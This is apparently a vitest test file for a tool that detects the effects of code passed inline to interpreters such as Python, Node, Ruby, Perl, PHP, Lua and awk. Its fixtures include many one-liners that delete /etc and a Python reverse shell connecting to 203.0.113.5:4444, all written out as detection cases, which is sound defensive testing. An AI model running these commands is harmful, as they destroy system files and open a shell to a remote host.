/** Code on the command line of an interpreter. */
import { describe, expect, test } from 'vitest'
import { effectsOf, understood } from './world.ts'

const ETC = 'delete system /etc'
const quoted = (code: string): string => `'${code.replaceAll("'", "'\\''")}'`

describe('deletes', () => {
  test.each([
    ['python3 -c', 'import shutil; shutil.rmtree("/etc")'],
    ['python3 -c', 'from shutil import rmtree\nrmtree("/etc")'],
    ['python3 -c', 'import os; os.system("rm -rf /etc")'],
    ['python3 -c', 'import subprocess; subprocess.run(["rm", "-rf", "/etc"], check=True)'],
    ['python3 -c', 'import subprocess; subprocess.run("rm -rf /etc", shell=True)'],
    ['python3 -c', 'p = "/etc"\nimport shutil\nshutil.rmtree(p, ignore_errors=True)'],
    ['python3 -c', 'import os, shutil; shutil.rmtree(os.path.join("/", "etc"))'],
    ['python3 -c', 'from pathlib import Path; import shutil; shutil.rmtree(Path("/") / "etc")'],
    ['node -e', 'require("fs").rmSync("/etc", { recursive: true })'],
    ['node -e', "require('child_process').execSync('rm -rf /etc')"],
    ['node -e', "const { spawnSync } = require('child_process'); spawnSync('rm', ['-rf', '/etc'])"],
    ['node -e', 'const d = `/etc`; fs.promises.rm(d)'],
    ['ruby -e', 'FileUtils.rm_rf("/etc")'],
    ['ruby -e', 'system "rm -rf /etc"'],
    ['ruby -e', '`rm -rf /etc`'],
    ['perl -e', 'system("rm", "-rf", "/etc");'],
    ['perl -e', 'use File::Path; rmtree("/etc");'],
    ['perl -e', 'qx(rm -rf /etc)'],
    ['php -r', 'shell_exec("rm -rf /etc");'],
    ['lua -e', 'os.execute("rm -rf /etc")'],
    ['awk', 'BEGIN { system("rm -rf /etc") }'],
  ])('%s %s', (program, code) => expect(effectsOf(`${program} ${quoted(code)}`)).toContain(ETC))

  test('a heredoc, and a loop over names', () => {
    expect(effectsOf("python3 - <<'E'\nimport shutil\nshutil.rmtree('/etc')\nE")).toContain(ETC)
    expect(
      effectsOf(`python3 -c ${quoted('import os, glob\nfor f in glob.glob("/etc/*"):\n    os.remove(f)')}`),
    ).toContain('delete system /etc/*')
  })
})

describe('does not take text for code', () => {
  test.each([
    ['python3 -c', 'print("shutil.rmtree(\'/etc\')")'],
    ['python3 -c', '# shutil.rmtree("/etc")\nprint(1)'],
    ['python3 -c', 'x = """\nos.system("rm -rf /etc")\n"""'],
    ['node -e', '// fs.rmSync("/etc")\nconsole.log("fs.rmSync(\'/etc\')")'],
    ['node -e', 'const r = /rmSync("\\/etc")/'],
    ['perl -e', 'print "unlink /etc"; # unlink "/etc"'],
    ['awk', '/rm -rf/ { print "system(rm)" }'],
  ])('%s %s', (program, code) => {
    expect(effectsOf(`${program} ${quoted(code)}`).filter(effect => effect.startsWith('delete'))).toEqual([])
  })
})

test('a path that is not known says nothing, one that is partly known does', () => {
  expect(effectsOf(`python3 -c ${quoted('import shutil, sys; shutil.rmtree(sys.argv[1])')}`)).toHaveLength(1)
  expect(effectsOf(`python3 -c ${quoted('import shutil, sys; shutil.rmtree("/etc/" + sys.argv[1])')}`)).toContain(
    'delete system /etc/…',
  )
})

test('a shell on a socket', () => {
  const code =
    'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
  const { effects } = understood(`python3 -c ${quoted(code)}`)
  expect(effects.some(effect => effect.details.reverse_shell === true)).toBe(true)
})
